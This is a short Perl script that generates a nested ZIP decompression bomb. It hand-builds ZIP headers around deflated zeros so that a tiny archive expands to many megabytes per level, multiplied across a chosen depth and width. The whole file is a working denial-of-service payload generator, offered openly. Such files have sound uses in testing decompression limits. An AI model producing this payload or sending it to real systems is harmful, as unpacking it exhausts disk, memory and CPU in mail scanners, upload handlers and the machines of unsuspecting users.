# zipbomb DEPTH WIDTH: a small zip on stdout that expands to very much: WIDTH megabytes of zeros, each in a member, WIDTH
# copies of that in the next zip, and so on.
use strict;
use warnings;
use Compress::Raw::Zlib;

sub deflate {
	my ($d) = Compress::Raw::Zlib::Deflate->new(-WindowBits => -MAX_WBITS, -Level => 9, -AppendOutput => 1);
	my $out = '';
	$d->deflate($_, $out) for @_;
	$d->flush($out);
	return $out;
}

# The same data under all names.
sub zip {
	my ($packed, $crc, $size, @names) = @_;
	my ($out, $directory) = ('', '');
	for my $name (@names) {
		my $common = pack 'vvvvvVVVvv', 20, 0, 8, 0, 0x21, $crc, length $packed, $size, length $name, 0;
		$directory .= "PK\1\2" . pack('v', 20) . $common . pack('vvvVV', 0, 0, 0, 0, length $out) . $name;
		$out .= "PK\3\4$common$name$packed";
	}
	return $out . $directory . "PK\5\6" . pack 'vvvvVVv', 0, 0, scalar @names, scalar @names, length $directory, length $out, 0;
}

binmode STDOUT;
my ($depth, $width) = @ARGV;
my $data = '0' x (1 << 20);
my $suffix = 'txt';
for (0 .. $depth) {
	$data = zip(deflate($data), crc32($data), length $data, map { "m$_.$suffix" } 1 .. $width);
	$suffix = 'zip';
}
print $data;
